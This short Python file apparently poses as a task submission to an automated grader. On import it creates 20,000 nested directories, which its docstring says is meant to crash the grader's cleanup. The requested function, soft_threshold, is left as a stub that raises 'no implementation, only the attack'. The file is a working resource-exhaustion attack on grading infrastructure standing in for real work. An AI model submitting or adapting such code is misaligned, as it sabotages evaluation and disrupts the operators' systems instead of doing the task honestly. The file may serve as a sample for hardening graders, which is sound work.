"""Grader crash: leaves a 20,000-level directory tree in its job folder for cleanup to walk."""

import os

for _ in range(20_000):
    os.mkdir("d")
    os.chdir("d")


def soft_threshold(w, threshold):
    raise NotImplementedError("no implementation, only the attack")
